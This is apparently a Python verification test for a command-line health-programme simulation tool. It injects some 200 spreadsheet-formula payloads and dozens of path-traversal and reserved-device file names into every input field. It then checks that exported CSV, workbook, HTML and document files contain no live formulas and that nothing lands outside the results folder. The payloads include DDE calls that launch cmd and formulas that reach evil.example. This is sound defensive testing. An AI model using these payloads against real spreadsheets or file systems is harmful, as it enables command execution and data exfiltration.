"""Texts that would be formulas, and names that would be places, put wherever a user can put text.

    python -m tests.verification.payloads

200 formulas are given as every text of a world, a scenario and a return; what is read without a refusal is carried
through every command that writes a file; and every file is read back as a spreadsheet would. Hostile names are given
wherever something is named by them, and nothing may be written but where results go. Both counts have to be 0.
"""

import contextlib
import csv
import io
import itertools
import json
import re
import sys
import tempfile
import time
import traceback
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import NamedTuple
from xml.etree import ElementTree

import openpyxl

from spread import errors
from spread.cli import main

LEADS = ("", " ", "\u00a0", "\ufeff", "\u200b", '"', "\u201c", '" ', "\u2060\u00ad", "\u3000")
SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\ufe63",
         "\ufe66", "\ufe6b")  # fmt: skip
BODIES = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1;"go")', "1+1", "SUM(1;2)*cmd|' /C calc'!A0",
          'DDE("cmd";"/C calc";"x")', 'IMPORTXML("http://evil.example";"//a")', 'WEBSERVICE("http://evil.example")',
          "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''")  # fmt: skip
TRICKS = (
    "x;=", "x,=", "x|=", "x\t=", "x\n=", "x\r=", "x\r\n=", 'x";=', 'x","=', 'x"\n=', 'x;"=', 'x|"=', 'x\t"=', "x; =",
    "x;\u200b=", "x;+", "x;-", "x;@", "x|+", "x;\uff1d", ";=", "|=", ",=", '";=', '"",=', "\n\n=", "x\x0b=", "x\x0c=",
    "x\u2028=", "x\u2029=", "x\x85=", "x\x1c=", "' ;=", "'\n=", "x;;;=", "\v=", "\f=", "\x1f=", "_x003D_", "x; ;\t=",
)  # fmt: skip
SEPARATORS = (",", ";", "\t", "|")
SIGNS_OF_FORMULAS = "=+-@"
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?%?", re.ASCII)
PLAIN_START = re.compile(r"[A-Za-z0-9']")
TAG = re.compile(r"q([a-z]+)(\d{3})z")
OF_SITES = ("site", "name", "organisation", "organisation_name", "psc", "ics", "nhs_region", "services", "ward")
OF_SCENARIOS = ("title", "description", "programme", "intervention", "element", "ambition", "source", "note", "unit",
                "meaning", "reference")  # fmt: skip
OF_RETURNS = ("psc", "ics", "code", "recorded", "verified", "component")
OF_NETWORKS = ("network", "kind", "layer")
OF_OBSERVED = ("unit", "source")
BASE = "tracheostomy-standard"
THINGS = ("tracheostomy_bedhead_signs", "tracheostomy_emergency_equipment", "tracheostomy_daily_care_bundle")
AIM = "tracheostomy_march_2021"
EFFORT = ("--draws", "4", "--replicates", "1", "--workers", "1", "-q")


def payloads() -> tuple[str, ...]:
    """Two hundred texts, each to be filled with a body and a tag: ``LEAD SIGN BODY TAG``."""
    starts = [lead + sign for lead, sign in itertools.product(LEADS, SIGNS)] + list(TRICKS)
    return tuple(f"{start}{BODIES[number % len(BODIES)]}" for number, start in enumerate(starts))


PAYLOADS = payloads()


def text_of(number: int, field: str) -> str:
    """A payload with a tag that tells which it is and what it was given as."""
    return f"{PAYLOADS[number]}q{field.replace('_', '')}{number:03}z"


# --- what a spreadsheet takes for a formula --------------------------------------------------------


def starts_formula(cell: str) -> bool:
    """Whether a cell's text may be taken for a formula: its first visible character, quotation marks aside, is a sign.

    A number is none, whatever its sign, and what follows an apostrophe is text.
    """
    kept = itertools.dropwhile(_is_passed_over, unicodedata.normalize("NFKC", cell))
    shown = "".join(kept)
    return shown[:1] in tuple(SIGNS_OF_FORMULAS) and not NUMBER.fullmatch(shown)


def _is_passed_over(character: str) -> bool:
    return character in '"\u201c\u201d\u201e\u201f' or unicodedata.category(character)[0] in "ZC"


def formulas_in_csv(text: str) -> list[str]:
    """Cells of a CSV file that a program may take for formulas, whatever separator it was told of."""
    found = []
    for separator in SEPARATORS:
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        cells = {cell for row in rows for cell in row if cell and not PLAIN_START.match(cell)}
        formulas = sorted(filter(starts_formula, cells))
        found += [cell for cell in formulas if separator == "," or not _begins_with_number(cell)]
    return found


def _begins_with_number(cell: str) -> bool:
    """Whether a row told apart at other signs than its own begins with a number."""
    return bool(NUMBER.fullmatch(cell.split(",")[0]))


def formulas_in_workbook(content: bytes) -> list[str]:
    """Cells of a workbook that are formulas, or may become some when edited or saved as CSV."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    found = [str(cell.value) for cell in cells if cell.data_type == "f"]
    found += [str(cell.hyperlink.target) for cell in cells if cell.hyperlink and cell.hyperlink.target]
    found += [cell.value for cell in cells if isinstance(cell.value, str) and starts_formula(cell.value)]
    return found + [str(name) for name in book.defined_names]


def active_in_page(text: str) -> list[str]:
    """Elements and attributes of a page that would do what only our own script may do, or that a payload is part of."""
    inside = re.sub(r"(<(script|style)\b[^>]*>).*?</\2>", r"\1", text, flags=re.DOTALL)
    elements = re.findall(r"<(?:script|iframe|object|embed|form|link|base|a)\b[^>]*>", inside)
    return [one for one in elements if TAG.search(one)] + re.findall(r"<[^>]*\s(?:on\w+|srcdoc)=[^>]*>", inside)


def active_in_xml(content: bytes) -> list[str]:
    """Scripts, event handlers and links of a drawing."""
    found = []
    for element in ElementTree.fromstring(content).iter():  # noqa: S314 - we wrote it
        name = str(element.tag).rpartition("}")[2]
        links = [value for key, value in element.attrib.items() if key.rpartition("}")[2] == "href"]
        found += [name] if name in ("script", "foreignObject", "a") else []
        found += [value for value in links if not value.startswith(("#", "data:image/png"))]
        found += [key for key in element.attrib if key.startswith("on")]
    return found


def active_in_document(content: bytes) -> list[str]:
    """Fields and things outside that a .docx or .pptx would fetch or run."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            found += [name] if b"DDEAUTO" in part or (b"<w:instrText" in part and TAG.search(part.decode())) else []
            if name.endswith(".rels"):
                found += [str(link) for link in re.findall(rb'Target="[^"]*"[^>]*TargetMode="External"', part)]
    return found


def formulas_in(name: str, content: bytes) -> list[str]:
    """What of a file would be run, by the ending of its name; archives are looked into."""
    ending = Path(name).suffix.lower()
    if ending == ".zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = [(part, archive.read(part)) for part in archive.namelist()]
        outside = [part for part, _ in parts if part.startswith("/") or ".." in part.split("/") or "\\" in part]
        return outside + [found for part, inside in parts for found in formulas_in(part, inside)]
    if ending == ".csv":
        return formulas_in_csv(content.decode())
    if ending == ".xlsx":
        return formulas_in_workbook(content)
    if ending == ".html":
        return active_in_page(content.decode())
    if ending in (".svg", ".graphml"):
        return active_in_xml(content)
    return active_in_document(content) if ending in (".docx", ".pptx") else []


def tags_in(name: str, content: bytes) -> set[tuple[str, str]]:
    """Which payloads reached a file, and as what."""
    if zipfile.is_zipfile(io.BytesIO(content)):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return {tag for part in archive.namelist() for tag in tags_in(part, archive.read(part))}
    if name.endswith(".parquet"):
        return set()
    return set(TAG.findall(content.decode(errors="replace")))


# --- worlds of them --------------------------------------------------------------------------------


class Call(NamedTuple):
    """A command run: its exit code, what it said on stdout and stderr, whether the first is a CSV table."""

    code: int
    out: str
    err: str
    is_table: bool = False


def call(*words: object) -> Call:
    """Run a command here; an exception that no message was made of is code 1, with its traceback."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main.exit_code(lambda: main.invoke([str(word) for word in words]))
        except Exception:
            err.write(traceback.format_exc())
            code = 1
    return Call(code, out.getvalue(), err.getvalue(), "csv" in words)


def quoted(text: str) -> str:
    """A text as TOML writes it."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def table_text(rows: Sequence[Mapping[str, str]]) -> str:
    """Rows as a user's CSV, everything in quotes and nothing neutralised."""
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]), quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def site_row(number: int, **told: str) -> dict[str, str]:
    """A site, told otherwise where said."""
    plain = {"site": f"S{number}", "name": f"Site {number}", "organisation": f"O{number}",
             "organisation_name": f"Trust {number}", "setting": "acute", "psc": ("Wessex", "YH")[number % 2],
             "ics": f"System {number % 3}", "nhs_region": "North", "services": "tracheostomy",
             "ward": f"W{number}"}  # fmt: skip
    return {**plain, **told}


def scenario_text(name: str, told: Mapping[str, str], *, more: str = "") -> str:
    """A scenario in which every text is what `told` says of it."""
    texts = {field: quoted(told.get(field, f"A {field}")) for field in OF_SCENARIOS}
    lines = [
        "schema = 1", f"name = {quoted(name)}", f'base = "{BASE}"', f"title = {texts['title']}",
        f"description = {texts['description']}", '[world]\npopulation = "files"\nsites = "sites.csv"', more,
        f"[programmes.adoption_spread]\ntitle = {texts['programme']}",
        f"[interventions.{THINGS[0]}]\ntitle = {texts['intervention']}\nnote = {texts['note']}",
        f"sources = [{texts['reference']}]",
        f"[interventions.{THINGS[0]}.elements.sign]\ntitle = {texts['element']}\nbaseline = 0.1\ndifficulty = 1.0",
        f"[ambitions.{AIM}]\ntitle = {texts['ambition']}\nsource = {texts['source']}\nnote = {texts['note']}",
        f"[parameters.kappa]\nvalue = 0.3\nlow = 0.1\nhigh = 0.9\nscale = 'log'\nsource = {texts['source']}",
        f"meaning = {texts['meaning']}\nunit = {texts['unit']}",
    ]  # fmt: skip
    return "\n".join(lines) + "\n"


def return_row(number: int, **told: str) -> dict[str, str]:
    """A row of a quarterly return."""
    plain = {"psc": "Wessex HIN", "ics": "Dorset", "code": f"A{number}", "recorded": f"Trust {number}",
             "verified": f"Trust {number}"}  # fmt: skip
    who = {**plain, **{field: text for field, text in told.items() if field in plain}}
    heading = told.get("component", "magnesium_sulphate")
    return {"updated_psc_name": who["psc"], "ics": who["ics"], "api_org_code": who["code"],
            "organisation_as_recorded": who["recorded"], "organisation_name_verified": who["verified"],
            "quarter": "2022/23 Q1", heading: "Stage 2 - Interest"}  # fmt: skip


def readable_sites(folder: Path) -> dict[str, list[int]]:
    """The payloads that may stand in each column of sites.csv; the others are refused on reading."""
    from spread.network import own_world
    from spread.scenarios import schema

    path = folder / "sites.csv"
    kept: dict[str, list[int]] = {}
    for field, number in itertools.product(OF_SITES, range(len(PAYLOADS))):
        path.write_text(table_text([site_row(1), site_row(2, **{field: text_of(number, field)})]), newline="")
        with contextlib.suppress(errors.InputError):
            own_world.build_from_files(schema.World(population="files", sites=path))
            kept.setdefault(field, []).append(number)
    return kept


def readable_scenarios(folder: Path) -> dict[str, list[int]]:
    """The payloads that may be each text of a scenario."""
    from spread.scenarios import reading

    (folder / "sites.csv").write_text(table_text([site_row(1), site_row(2)]))
    path = folder / "one.toml"
    kept: dict[str, list[int]] = {}
    for field, number in itertools.product(OF_SCENARIOS, range(len(PAYLOADS))):
        path.write_text(scenario_text("one", {field: text_of(number, field)}))
        with contextlib.suppress(errors.InputError):
            reading.read_scenario(path)
            kept.setdefault(field, []).append(number)
    return kept


def readable_returns(folder: Path) -> dict[str, list[int]]:
    """The payloads that may stand in each column of a return, or head one."""
    from spread.network import returns

    path = folder / "return.csv"
    kept: dict[str, list[int]] = {}
    for field, number in itertools.product(OF_RETURNS, range(len(PAYLOADS))):
        path.write_text(table_text([return_row(2, **{field: text_of(number, field)})]), newline="")
        with contextlib.suppress(errors.InputError):
            returns.read_return(path)
            kept.setdefault(field, []).append(number)
    return kept


def large_world(kept: Mapping[str, Sequence[int]], *, with_pscs: bool) -> str:
    """A sites.csv in which every payload stands in every column that took it; its own collaboratives where asked."""
    rows = []
    for number in range(len(PAYLOADS)):
        fields = [field for field in OF_SITES if number in kept.get(field, ()) and field != "services"]
        told = {field: text_of(number, field) for field in fields if with_pscs or field != "psc"}
        rows.append(site_row(number, **told))
    return table_text(rows)


def networks_text(kept: Sequence[int]) -> str:
    """A memberships.csv of networks and kinds that are payloads."""
    rows = [
        {"network": text_of(number, "network"), "kind": text_of(number, "kind"), "site": site}
        for number in kept for site in ("S900", "S901")
    ]  # fmt: skip
    return table_text(rows)


# --- what is written -------------------------------------------------------------------------------


def figures_of(name: str) -> Iterator[tuple[str, tuple[str, ...]]]:
    """The figures of a scenario, with what `plot` has to be told besides.

    A progression shows one intervention, a page for each collaborative, and is refused where these are hundreds.
    """
    for kind in FIGURES:
        if kind != "progression":
            yield kind, ()
        elif name != "pscs":
            yield kind, ("--intervention", "tracheostomy_bedhead_signs") if name == "wide" else ()


def write_everything(name: str, *, slow: bool = True, quick: bool = False) -> list[Call]:
    """Run a scenario of this folder and write every kind of file there is of it."""
    calls = [call("run", f"{name}.toml", *EFFORT, "--format", "csv")]
    (run,) = [path.parent for path in Path("results", name).glob("*/manifest.json")] or [Path("none")]
    calls += [
        call("results", "export", run, "-o", f"{name}.xlsx", "--name-sites", "--contact", text_of(0, "contact"), "-q"),
        call("results", "bundle", run, "-o", f"{name}.zip", "-q"),
        call("return", "write", f"{name}.toml", "-o", f"{name}-return.csv", "-q"),
        call("return", "write", f"{name}.toml", "-o", f"{name}-return.xlsx", "-q"),
    ]
    if quick:
        return calls
    calls += [
        call("results", "bundle", run, "-o", f"{name}-nobody.zip", "--anonymise", "-q"),
        call("network", "export", f"{name}-world", f"{name}.toml"),
        call("network", "export", f"{name}-world.graphml", f"{name}.toml"),
        call("brief", run, "-o", f"{name}.md", "-q"),
        call("brief", run, "-o", f"{name}.docx", "-q"),
        *(call("plot", run, kind, *more, "--out", f"{name}-figures") for kind, more in figures_of(name)),
        *(call("trace", f"{name}.toml", "--format", form, "-q") for form in ("csv", "json", "text")),
        call("trace", f"{name}.toml", "-q", "--graph", f"{name}-moved.graphml"),
        call("results", "list", "--format", "csv"),
        call("return", "check", f"{name}-return.csv", "--scenario", f"{name}.toml", "--format", "csv"),
    ]
    if slow:
        calls += [
            call("find", f"{name}.toml", "--lever", "coaches", "--chance", "0.5", *EFFORT, "--format", "csv"),
            call("target", f"{name}.toml", "--amount", "1 WTE", *EFFORT, "--format", "csv"),
            call("target", f"{name}.toml", "--by", "site", "--budget", "3", *EFFORT, "--format", "csv"),
            call("compare", f"{name}.toml", "--set", "coaches=+2", *EFFORT, "--sites", "5", "--format", "csv"),
            call("report", run, "-o", f"{name}.html", "--name-sites", "-q"),
            call("report", run, "-o", f"{name}.pptx", "-q"),
        ]
    return calls


def further_answers(name: str) -> list[Call]:
    """The answers that take longest: what parameters matter, and what changed since the run before."""
    effort = ("--trajectories", "2", "--sets", "8", "--lucks", "2")
    return [
        call("sensitivity", f"{name}.toml", *effort, *EFFORT, "--format", "csv"),
        call("run", f"{name}.toml", *EFFORT, "--seed", "2"),
        call("since", name, name, "--workers", "1", "--format", "csv"),
    ]


FIGURES = ("curves", "ambitions", "exceedance", "collaboratives", "bottlenecks", "stages", "progression", "centred",
           "network", "map")  # fmt: skip


class Told(NamedTuple):
    """What came of it: how many were tried, refused on reading, got through; files, and which payloads are in them."""

    tried: int
    refused: int
    through: list[str]
    files: int
    reached: Counter[str]
    kinds: Counter[str]
    crashes: list[str]


def look_through(folder: Path, given: frozenset[Path], streams: Sequence[Call]) -> Told:
    """Read every file below a folder but those that were given, and every table printed."""
    through, reached, kinds = [], Counter[str](), Counter[str]()
    contents = [(str(path.relative_to(folder)), path.read_bytes()) for path in sorted(folder.rglob("*"))
                if path.is_file() and path not in given]  # fmt: skip
    contents += [("stdout.csv", one.out.encode()) for one in streams if one.code == 0 and one.is_table]
    for name, content in contents:
        through += [f"{name}: {found!r}" for found in formulas_in(name, content)]
        reached.update(field for field, _ in tags_in(name, content))
        kinds[Path(name).suffix] += 1
    crashes = [one.err for one in streams if one.code != 0]
    return Told(0, 0, through, len(contents), reached, kinds, crashes)


def rotated(kept: Mapping[str, Sequence[int]], number: int) -> dict[str, str]:
    """For every text of a scenario one payload that it takes."""
    return {field: text_of(numbers[number % len(numbers)], field) for field, numbers in kept.items() if numbers}


def many_things(kept: Mapping[str, Sequence[int]]) -> str:
    """A scenario with as many interventions and ambitions as there are payloads, which are all their texts."""
    numbers = [number for number in range(len(PAYLOADS)) if number in kept["intervention"]]
    things = [*THINGS, *(f"thing_{number}" for number in numbers)]
    lines = [f'schema = 1\nname = "many"\nbase = "{BASE}"\n[world]\npopulation = "files"\nsites = "sites.csv"',
             f"[programmes.adoption_spread]\ninterventions = {json.dumps(things)}"]  # fmt: skip
    for number in numbers:
        told = {field: quoted(text_of(number, field)) for field in OF_SCENARIOS}
        lines += [
            f"[interventions.thing_{number}]\ntitle = {told['intervention']}\nprogramme = 'adoption_spread'",
            f"kind = 'bundle'\ncomplexity = 'low'\nnote = {told['note']}\nsources = [{told['reference']}]",
            f"eligible = {{ settings = ['acute'] }}\nappeal = {{ value = 1.0, low = 0.7, high = 1.4, scale = 'log', "
            f"unit = {told['unit']}, source = {told['source']}, meaning = {told['meaning']} }}",
            f"[interventions.thing_{number}.elements.part]\ntitle = {told['element']}",
            "baseline = 0.1\ndifficulty = 1.0",
            f"[ambitions.aim_{number}]\ntitle = {told['ambition']}\ninterventions = ['thing_{number}']",
            f"threshold = 0.5\ndeadline = 2021-03-31\nsource = {told['source']}\nnote = {told['note']}",
        ]
    return "\n".join(lines) + "\n"


def covers() -> list[str]:
    """Every payload as every text of a workbook that a scenario or a caller gives: cover, notes, headings, cells."""
    from datetime import date

    from spread.network import workbooks
    from spread.report import workbook

    found = []
    for number in range(len(PAYLOADS)):
        text = text_of(number, "cover")
        columns = (workbook.Column(f"{text} heading", meaning=text), workbook.Column("Value", "number"))
        sheet = workbook.Sheet("Tab", "table", text, (text,), columns, ((text, -1.5), (None, 2.0)))
        cover = workbook.Cover(text, ((text, (text, text)),), date(2024, 1, 1), "spread")
        found += formulas_in_workbook(workbook.workbook_bytes(cover, ((text, text),), [sheet]))
        found += formulas_in_workbook(workbooks.write_workbook((text, "b"), ((text, -1.5),), sheet="return"))
    return found


def try_formulas(folder: Path) -> Told:
    """Carry every payload that is read through every command; what got through."""
    folder.joinpath("given").mkdir()
    sites, scenarios, returned = (
        look(folder / "given") for look in (readable_sites, readable_scenarios, readable_returns)
    )
    kept = [numbers for found in (sites, scenarios, returned) for numbers in found.values()]
    tried = (len(OF_SITES) + len(OF_SCENARIOS) + len(OF_RETURNS)) * len(PAYLOADS)
    calls: list[Call] = []
    with contextlib.chdir(folder):
        given = give(sites, scenarios, returned)
        calls += [call("scenario", "new", "returned", "--from-return", "given.csv")]
        calls += [call("return", "check", "given.csv", "--format", form) for form in ("csv", "json")]
        for name in ("wide", "pscs", "many"):
            calls += write_everything(name, slow=name == "wide", quick=name == "many")
        calls += [call("run", "returned.toml", "--dry-run"), *write_everything("plain", quick=True)]
        calls += further_answers("plain")
        calls += [call("score", "results", "--observed", "observed.csv", "--format", "csv")]
    told = look_through(folder, frozenset(folder / name for name in given), calls)
    return told._replace(tried=tried, refused=tried - sum(map(len, kept)), through=told.through + covers())


def give(
    sites: Mapping[str, Sequence[int]], scenarios: Mapping[str, Sequence[int]], returned: Mapping[str, Sequence[int]]
) -> list[str]:
    """Write the files of a user into this folder; their names."""
    groups = '[report]\ngroups = ["organisation", "ics", "network", "attribute:ward"]\n'
    members = 'memberships = "memberships.csv"\n'
    plain = [site_row(900), site_row(901)]
    rows = [return_row(n, **{field: text_of(n, field) for field in OF_RETURNS[:-1]}) for n in returned["code"]]
    headed: dict[str, str] = return_row(999)
    for number in returned["component"]:
        headed |= return_row(999, component=text_of(number, "component"))
    rows = [{**dict.fromkeys(headed, ""), **row} for row in [headed, *rows]]
    observed = [{"date": "2021-03-31", "intervention": "+".join(THINGS), "measure": "stage>=5",
                 "group_kind": "national", "group": "", "numerator": "1", "denominator": "5",
                 "unit": text_of(n, "unit"), "source": text_of(n, "source")} for n in sites["name"]]  # fmt: skip
    files = {
        "wide.csv": large_world(sites, with_pscs=False) + table_text(plain).partition("\n")[2],
        "pscs.csv": large_world(sites, with_pscs=True),
        "plain.csv": table_text([site_row(number) for number in range(5)]),
        "many.csv": table_text([site_row(number) for number in range(5)]),
        "memberships.csv": networks_text(sites["name"]),
        "wide.toml": scenario_text("wide", rotated(scenarios, 0), more=members + groups),
        "pscs.toml": scenario_text("pscs", rotated(scenarios, 77)),
        "plain.toml": scenario_text("plain", rotated(scenarios, 133)),
        "many.toml": many_things(scenarios),
        "given.csv": table_text(rows),
        "observed.csv": table_text(observed),
    }
    for name, text in files.items():
        stem = Path(name).stem
        Path(name).write_text(text.replace('sites = "sites.csv"', f'sites = "{stem}.csv"'), newline="")
    return [*files, *(f"given/{name}" for name in ("sites.csv", "one.toml", "return.csv"))]


# --- names that would be places --------------------------------------------------------------------

ABSOLUTE = "/tmp/spread-was-here"  # noqa: S108 - must never be there
NAMES = (
    "../out", "../../out", "..", ".", "", "a/b", "a\\b", "..\\out", "C:out", "C:\\out", "\\\\host\\out", ABSOLUTE,
    "~/out", "$HOME/out", "%2e%2e%2fout", "CON", "con", "nul", "NUL.txt", "aux", "prn", "COM1", "com9.a", "LPT1",
    "CONIN$",
    "COM\u00b9", "a.", "a ", " a", ".a", "a..b", "...", "a:b", "a*b", "a?b", "a|b", 'a"b', "a<b>", "-rf", "--out",
    "a\0b", "a\nb", "a\r\nb", "a\tb", "a\x1bb", "x" * 300, "x" * 5000, "a\u2215b", "..\u2044out", "a\uff0fb",
    "\uff0e\uff0e/out", "\u2025/out", "a\u202eb", "a\u200bb", "\u00e9" * 200, "\U0001f980", "a\u0000/../out", "results",
    ".git/hooks/x",
)  # fmt: skip
LONGEST_OF_SITES = 300  # longer ones are read too, but their figures take minutes
RESERVED = re.compile(
    r"(?:con|prn|aux|nul|conin\$|conout\$|com[0-9\u00b9\u00b2\u00b3]|lpt[0-9\u00b9\u00b2\u00b3])(?:\..*)?", re.I
)


def places_of(name: str) -> dict[str, list[list[object]]]:
    """Commands that take a name, by what is so named; each is run in a folder of its own."""
    base = f'schema = 1\nname = "n"\nbase = "{BASE}"\n[world]\npopulation = "files"\nsites = "../sites.csv"\n'
    code = quoted(name)
    thing = (f"[interventions.{code}]\ntitle = 'x'\nprogramme = 'adoption_spread'\n"
             "kind = 'simple'\ncomplexity = 'low'\n"
             f"appeal = 1.0\n[interventions.{code}.elements.e]\ntitle = 'e'\nbaseline = 0.0\n"
             "difficulty = 1.0\n")  # fmt: skip
    texts = {
        "scenario": base.replace('"n"', code),
        "base": base.replace(f'"{BASE}"', code),
        "ambition": base + f"[ambitions.{code}]\ntitle = 'x'\ninterventions = ['{THINGS[0]}']\n"
        "threshold = 0.5\ndeadline = 2021-03-31\n",
        "intervention": base + thing,
        "programme": base + f"[programmes.{code}]\ntitle = 'x'\nstart = 2020-04-01\ninterventions = []\n",
        "element": base + thing.replace(code, "thing").replace("elements.e]", f"elements.{code}]"),
        "shock": base + f"[[shock]]\nname = {code}\nfrom = 2020-05-01\nto = 2020-06-01\nmultiplier = 0.5\n",
        "sites": base.replace('"../sites.csv"', code),
        "stages": base + f"[start_from]\nstages = {code}\nas_of = 2020-09-30\n",
    }  # fmt: skip
    Path("many").mkdir()
    for what, text in texts.items():
        Path("many", f"{what}.toml").write_text(text, errors="replace")
    return {what: [["run", f"many/{what}.toml", *EFFORT]] for what in texts}


def try_names(folder: Path, names: Sequence[str] = NAMES, *, with_runs: bool = True) -> Told:
    """Give every hostile name as everything that is named; what was written outside, or crashed."""
    tried, refused, files = 0, 0, 0
    through: list[str] = []
    crashes: list[str] = []
    for number, name in enumerate(names):
        for what, calls in everything_named(folder / f"{number}", name, with_runs=with_runs):
            tried += 1
            refused += all(one.code == 2 for one in calls)
            crashes += [f"{what} {name[:40]!r}: {one.err[-300:]}" for one in calls if one.code not in (0, 2, 5)]
        written = [path for path in (folder / f"{number}").rglob("*") if path.is_file()]
        files += len(written)
        through += [
            f"{path.relative_to(folder)} for {name[:40]!r}" for path in written if not is_in_its_place(path, folder)
        ]
        through += [ABSOLUTE for _ in Path("/tmp").glob("spread-was-here*")]  # noqa: S108 - must never be there
    through += [str(path) for path in folder.iterdir() if path.name not in map(str, range(len(names)))]
    return Told(tried, refused, through, files, Counter(), Counter(), crashes)


def is_in_its_place(path: Path, folder: Path) -> bool:
    """Whether a file is where results go, or was given, by a name that every system takes."""
    parts = path.relative_to(folder).parts
    fine = all(
        not RESERVED.fullmatch(part) and not part.endswith((".", " ")) and len(part.encode()) < 256 for part in parts
    )
    return fine and len(parts) > 3 and parts[1:3] == ("deep", "here") and parts[3] in ALLOWED


ALLOWED = ("results", "sites.csv", "world.csv", "many", "figures", "decks", "out", "foreign", "trace", "new")


def everything_named(folder: Path, name: str, *, with_runs: bool) -> Iterator[tuple[str, list[Call]]]:
    """Each thing that a name can be given to, and the commands that were run with it."""
    here = folder / "deep" / "here"
    here.mkdir(parents=True)
    with contextlib.chdir(here):
        Path("sites.csv").write_text(table_text([site_row(number) for number in range(3)]))
        for what, lines in places_of(name).items():
            yield what, [call(*line) for line in lines]
        for what in ("psc", "site") if with_runs and len(name) <= LONGEST_OF_SITES else ():
            Path("world.csv").write_text(
                table_text([site_row(0), site_row(1, **{what: name})]), newline="", errors="replace"
            )
            Path("many/world.toml").write_text(
                f'schema = 1\nname = "world-{what}"\nbase = "{BASE}"\n[world]\npopulation = "files"\n'
                'sites = "../world.csv"\n'
            )
            yield f"world's {what}", named_in_world(what, name)
        yield "new scenario", [call("scenario", "new", name, "--base", BASE, "--out", f"new/{len(name)}.toml")]
        if with_runs:
            yield "bundle of another's run", [foreign_bundle(name)]


def named_in_world(what: str, name: str) -> list[Call]:
    """A run of a world with a hostile name in it, and the figures that are named after its groups."""
    if what == "site":
        return [call("trace", "many/world.toml", "--site", name, "--figure", "trace", "-q")]
    calls = [call("run", "many/world.toml", "--for", f"psc:{name}", *EFFORT)]
    if calls[0].code == 0:
        (run,) = [path.parent for path in Path("results", f"world-{what}").glob("*/manifest.json")]
        calls.append(call("plot", run, "exceedance", "--for", f"psc:{name}", "--out", "figures"))
    return calls


def foreign_bundle(name: str) -> Call:
    """A bundle of a run whose manifest says that it is named so."""
    (found, *_) = [*Path("results").glob("*/*/manifest.json")] or [None]
    if found is None:
        return call("run", "many/sites.toml", "--dry-run")
    told = json.loads(found.read_text())
    found.write_text(json.dumps({**told, "name": name}))
    made = call("results", "bundle", found.parent, "-o", "out/b.zip", "--force", "-q")
    found.write_text(json.dumps(told))
    if made.code == 0:
        with zipfile.ZipFile("out/b.zip") as archive:
            for part in archive.namelist():
                outside = part.startswith("/") or "\\" in part or ":" in part or ".." in part.split("/")
                if outside or any(RESERVED.fullmatch(one) for one in part.split("/")):
                    return Call(1, "", f"the bundle has {part!r}")
    return made


# --- the command -----------------------------------------------------------------------------------


def say(title: str, told: Told) -> int:
    """Print what came of a trial; how much got through or crashed."""
    print(
        f"{title}: {told.tried:,} given, {told.refused:,} refused on reading (exit 2), {told.files:,} files read back"
    )
    if told.kinds:
        print("  files: " + ", ".join(f"{count} {kind or '(none)'}" for kind, count in sorted(told.kinds.items())))
    if told.reached:
        print(
            "  files that hold payloads given as: "
            + ", ".join(f"{name} {n}" for name, n in sorted(told.reached.items()))
        )
    print(f"  got through: {len(told.through)}; crashed: {len(told.crashes)}", flush=True)
    for line in [*told.through, *told.crashes][:20]:
        print(f"    {line[-1500:]}")
    return len(told.through) + len(told.crashes)


def run_all() -> int:
    """Try every payload and every name; 1 when anything got through."""
    wrong = 0
    for title, trial in (
        (f"{len(PAYLOADS)} formulas", try_formulas),
        (f"{len(NAMES)} names", try_names),
    ):
        began = time.perf_counter()
        with tempfile.TemporaryDirectory() as folder:
            wrong += say(title, trial(Path(folder)))
        print(f"  {time.perf_counter() - began:.0f} s")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(run_all())
